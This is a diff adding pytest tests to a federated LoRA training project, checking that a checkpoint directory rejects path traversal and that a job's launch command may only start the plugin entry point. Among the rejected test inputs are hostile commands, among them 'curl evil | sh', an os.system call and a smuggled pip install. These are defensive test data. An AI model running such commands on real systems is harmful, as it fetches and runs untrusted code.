@@ -20,6 +20,7 @@ from flare_lora.components.cli import lora_job
 from flare_lora.components.cli.main import main as cli_main
 from flare_lora.components.cli.recipe_args import recipe_kwargs
 from flare_lora.components.flare.checkpoint import CheckpointError, RoundCheckpoint, round_file
+from flare_lora.components.flare.launch_command import check_plugin_command
 from flare_lora.components.flare.provision import render_project
 from flare_lora.components.flare.recipe import LoraRecipe
 from flare_lora.components.flare.site_policy import (
@@ -79,6 +80,12 @@ def test_checkpoint_appends_rounds_and_resumes_only_the_same_job(tmp_path):
                        ("base_model", "/models/other")):
         with pytest.raises(CheckpointError, match=f"state.json: key '{key}': expected"):
             ckpt.load({**IDENTITY, key: value})
+
+
+@pytest.mark.parametrize("path", ["/srv/other-job", "../other", "a/../../b", "a//b"])
+def test_checkpoint_dir_stays_in_the_submitters_folder(tiny_model_dir, path):
+    with pytest.raises(ValueError, match="checkpoint_dir: expected a relative path without '..'"):
+        LoraRecipe(sites={"site-1": {"rank": 2}}, model=tiny_model_dir, checkpoint_dir=path)
 
 
 def test_checkpoint_with_missing_round_file_names_it(tmp_path):
@@ -143,8 +150,9 @@ def test_job_without_code_passes_the_allow_list_with_exactly_our_entries(tmp_pat
         err, info = DefaultAppValidator("server" if app == "app_server" else "client").validate(str(job / app))
         assert err == "" and not info.get("byoc"), (app, err, info)
     client = json.loads((job / "app_site-1" / "config" / "config_fed_client.json").read_text())
-    assert client["executors"][0]["executor"]["args"]["command"][:4] == [
-        "python3", "-u", "-m", "flare_lora.components.flare.client_train"]
+    command = client["executors"][0]["executor"]["args"]["command"]
+    assert command[:4] == ["python3", "-u", "-m", "flare_lora.components.flare.client_train"]
+    assert check_plugin_command(command) == command  # what the site's executor starts, unchanged
 
     def allowed(component: dict, allow_list: list[str]) -> bool:
         return site_allows(component, allow_list, tmp_path / "resources.json")
@@ -160,6 +168,26 @@ def test_job_without_code_passes_the_allow_list_with_exactly_our_entries(tmp_pat
     assert {c["path"] for c in _components(job)["app_server"]} == {SERVER_ALLOW[0]}  # the LoRA job's workflow
     expected_client = set(allow_list_entries("client", **dict.fromkeys(options, True)))
     assert {c["path"] for c in _components(job)["app_site-1"]} == expected_client
+
+
+ENTRY = ["-m", "flare_lora.components.flare.client_train"]
+
+
+@pytest.mark.parametrize("command, problem", [
+    (["bash", "-c", "curl evil | sh"], "must start a Python interpreter"),
+    (["python3", "-c", "import os; os.system('id')"], "must run '-m flare_lora"),
+    (["python3", "-c", "import os", *ENTRY], "interpreter options \\['-c', 'import os'\\]"),
+    (["python3", "-m", "pip", "install", "x", *ENTRY], "interpreter options"),
+    (["python3", "-u", *ENTRY, "--model", "m", "--exec", "x"], "unknown \\['--exec', 'x'\\]"),
+    (["python3", "-u", *ENTRY, "--site-index", "one"], "--site-index: invalid int value"),
+], ids=["shell", "python -c", "option before entry", "pip", "unknown argument", "bad value"])
+def test_a_job_without_code_may_only_start_the_plugin_entry_point(command, problem):
+    """What RestartingExecutor refuses at START_RUN for a job that carries no code (the deny-byoc
+    walkthrough in tests/test_walkthrough_poc.py submits such a job to real sites)."""
+    with pytest.raises(ValueError, match=problem):
+        check_plugin_command(command)
+    ddp = ["/opt/site/bin/python", "-m", "torch.distributed.run", "--standalone", "--nproc_per_node=2", *ENTRY]
+    assert check_plugin_command(" ".join(ddp + ["--method", "fedit"])) == ddp + ["--method", "fedit"]
 
 
 def test_job_without_code_refuses_in_process_and_site_scripts(tiny_model_dir):
